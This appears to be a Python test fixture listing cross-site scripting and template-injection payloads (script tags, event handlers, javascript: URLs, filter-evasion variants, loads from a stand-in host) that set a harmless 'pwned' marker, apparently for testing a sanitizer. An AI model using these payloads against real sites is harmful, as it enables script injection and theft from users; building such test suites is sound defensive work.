"""Texts that would do harm if they were taken for markup, addresses or script; each would set `pwned`."""

from __future__ import annotations

HARM = "window.pwned=1;parent.postMessage({crowd:'pwned'},'*')"

ELEMENTS = (
    f"<script>{HARM}</script>",
    f"<ScRiPt>{HARM}</sCrIpT>",
    f"</script><script>{HARM}</script>",
    f"<!--</script><script>{HARM}</script>",
    f"</style><script>{HARM}</script>",
    f"</textarea><script>{HARM}</script>",
    f"</title><script>{HARM}</script>",
    f"]]><script>{HARM}</script>",
    f"<scr<script>ipt>{HARM}</script>",
    "<script src=//crowd.test/leak></script>",
    f"<svg onload={HARM}>",
    f"<svg><script>{HARM}</script></svg>",
    f"<svg><animate onbegin={HARM} attributeName=x dur=1s>",
    f"<math><mtext></mtext><script>{HARM}</script></math>",
    f"<img src=x onerror={HARM}>",
    f"<img src=x:x onerror='{HARM}'//",
    f"<image src=x onerror={HARM}>",
    f"<video><source onerror={HARM}></video>",
    f"<audio src=x onerror={HARM}>",
    f"<body onload={HARM}>",
    f"<input autofocus onfocus={HARM}>",
    f"<details open ontoggle={HARM}>",
    f"<marquee onstart={HARM}>",
    f"<style>@keyframes a{{}}</style><p style=animation-name:a onanimationstart={HARM}>",
    f'<iframe srcdoc="<script>{HARM}</script>"></iframe>',
    f"<iframe src=javascript:{HARM}></iframe>",
    "<object data=//crowd.test/leak></object>",
    "<embed src=//crowd.test/leak>",
    f"<a href=javascript:{HARM}>here</a>",
    "<base href=//crowd.test/leak/>",
    "<meta http-equiv=refresh content='0;url=//crowd.test/leak'>",
    "<link rel=stylesheet href=//crowd.test/leak>",
    f"<form action=javascript:{HARM}><button>go</button></form>",
    "<form id=page><input name=q1 value=forged></form>",
    "<section class=question id=q9></section>",
    f"<template><script>{HARM}</script></template>",
    f"<noscript><p title='</noscript><script>{HARM}</script>'>",
)
ATTRIBUTES = (
    f'" onmouseover="{HARM}',
    f"' onmouseover='{HARM}",
    f'" autofocus onfocus="{HARM}" x="',
    f'"><script>{HARM}</script>',
    f"`-{HARM}-`",
    f"x\n onerror={HARM}",
)
ADDRESSES = (
    f"javascript:{HARM}",
    f"JaVaScRiPt:{HARM}",
    f"java\tscript:{HARM}",
    f"\x01javascript:{HARM}",
    f"data:text/html,<script>{HARM}</script>",
    f"data:image/svg+xml,<svg/onload={HARM}>",
    f"vbscript:{HARM}",
    f'https://example.org/a.png?"onerror={HARM}',
    "//crowd.test/leak",
    "blob:https://crowd.test/leak",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{{ page.token }}",
    "{% for x in range(9) %}{{ x }}{% endfor %}",
    "${pwned=1}",
    "<%= pwned %>",
    '"}]</script><script>' + HARM + "</script>",
    "\u2028" + HARM + "\u2029",
    "\\u003cscript\\u003e" + HARM,
    "\ud83d\udc4b" + "<script>" + HARM,
)
PAYLOADS = (*ELEMENTS, *ATTRIBUTES, *ADDRESSES, *TEMPLATES[:-1])
